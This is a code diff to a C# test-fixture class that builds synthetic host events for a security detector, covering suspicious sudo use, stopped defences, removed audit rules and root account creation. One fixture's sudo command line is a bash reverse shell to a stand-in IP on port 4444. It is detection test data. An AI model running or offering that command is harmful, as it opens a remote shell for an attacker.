@@ -37,9 +37,9 @@ internal static class HostExamples
         // The host
         ["h04_sudo_by_service"] = () => Single(At(0, EventType.SudoSuccess, "", user: "alice"), At(1, EventType.SudoSuccess, "", user: "asterisk")),
         ["h04_su_by_service"] = () => Single(Su(0, "alice"), Su(1, "asterisk")),
-        ["h05_suspicious_sudo"] = () => Single(Says(0, EventType.SudoSuccess, "COMMAND=/usr/bin/ls"), Says(1, EventType.SudoSuccess, "COMMAND=/bin/bash -c bash -i >& /dev/tcp/203.0.113.9/4444")),
+        ["h05_suspicious_sudo"] = () => Single(Sudo(0, "/usr/bin/ls"), Sudo(1, "/bin/bash -c bash -i >& /dev/tcp/203.0.113.9/4444")),
         ["h12_defence_disabled"] = () => Single(Daemon(At(0, EventType.ServiceStop, "", user: ""), "cron"), Daemon(At(1, EventType.ServiceStop, "", user: ""), "fail2ban")),
-        ["h13_log_tampering"] = () => Single(Because(At(0, EventType.AuditRecord, "", user: ""), "SYSCALL"), At(1, EventType.LogTruncated, "", user: "")),
+        ["h13_log_tampering"] = () => Single(AuditRecord(0, "CONFIG_CHANGE", "op=remove_rule", "4294967295"), AuditRecord(1, "CONFIG_CHANGE", "op=remove_rule", "1000")),
         ["h14_account_created"] = () => Single(At(0, EventType.AccountRemoved, ""), At(1, EventType.AccountCreated, "")),
         ["h14_root_account"] = () => Single(Says(0, EventType.AccountCreated, "new user: name=eve, UID=1001"), Says(1, EventType.AccountCreated, "new user: name=eve, UID=0, GID=0")),
         ["h15_attack_then_account"] = () => new(
@@ -111,6 +111,21 @@ internal static class HostExamples
     {
         var e = Daemon(At(seconds, EventType.SessionStart, "", user: "root"), "su");
         e.Actor = actor;
+        return e;
+    }
+
+    private static Event Sudo(double seconds, string command)
+    {
+        var e = At(seconds, EventType.SudoSuccess, "", user: "alice");
+        e.Attributes["process.command_line"] = command;
+        return e;
+    }
+
+    private static Event AuditRecord(double seconds, string type, string message, string loginUser)
+    {
+        var e = Says(seconds, EventType.AuditRecord, message);
+        e.Audit = new Audit { ClassName = type };
+        e.Attributes["auid"] = loginUser;
         return e;
     }
 
